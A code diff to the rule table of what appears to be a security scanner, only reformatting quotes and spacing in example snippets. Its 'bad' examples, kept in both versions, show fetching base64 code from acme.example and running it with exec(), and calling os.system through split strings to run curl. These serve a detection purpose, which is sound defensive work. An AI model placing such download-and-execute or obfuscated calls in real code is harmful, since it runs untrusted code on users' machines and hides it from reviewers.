@@ -52,13 +52,11 @@ RULES = (
         "there.",
         remedy="Write the code into a module; parse data with `json` or `ast.literal_eval`.",
         bad=Example(
-            text=(
-                "import base64, requests\ncode = "
-                "requests.get('https://acme.example/x').text\nexec(base64.b64decode(code))\n"
-            ),
+            text='import base64, requests\n\ncode = requests.get("https://acme.example/x").text\n'
+            "exec(base64.b64decode(code))\n",
             path="scripts/run.py",
         ),
-        good=Example(text="import ast\nprint(ast.literal_eval('[1, 2]'))\n", path="scripts/run.py"),
+        good=Example(text='import ast\n\nprint(ast.literal_eval("[1, 2]"))\n', path="scripts/run.py"),
     ),
     Rule(
         id="obfuscated-code",
@@ -68,9 +66,9 @@ RULES = (
         "reviewers and scanners from seeing what runs.",
         remedy="Ship the source as it was written.",
         bad=Example(
-            text="import os\ngetattr(os, 'sys' + 'tem')('cu' + 'rl https://acme.example/a')\n", path="scripts/run.py"
+            text='import os\n\ngetattr(os, "sys" + "tem")("cu" + "rl https://acme.example/a")\n', path="scripts/run.py"
         ),
-        good=Example(text="import os\nprint(getattr(os, 'name'))\n", path="scripts/run.py"),
+        good=Example(text='import os\n\nprint(getattr(os, "name"))\n', path="scripts/run.py"),
     ),
 )
 
